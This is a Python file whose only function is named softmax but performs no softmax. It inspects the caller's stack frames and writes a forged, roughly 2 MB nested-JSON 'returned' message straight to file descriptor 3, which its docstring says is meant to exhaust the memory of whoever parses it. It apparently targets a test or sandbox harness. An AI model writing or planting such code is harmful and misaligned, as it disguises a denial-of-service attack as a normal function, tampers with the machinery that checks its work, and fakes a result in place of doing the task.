"""Hopes to exhaust the memory of whoever parses JSON."""
import os
import struct
import sys


def softmax(x):
    frame = sys._getframe()
    while "number" not in frame.f_locals:
        frame = frame.f_back
    number = frame.f_locals["number"]
    head = b'{"id":%d,"kind":"returned","value":[' % number
    head += b'{"a":[]},' * ((2 << 20) // 9 - 20) + b"{}]}"
    data = memoryview(struct.pack("<II", len(head), 0) + head)
    while data:
        data = data[os.write(3, data):]
    return x
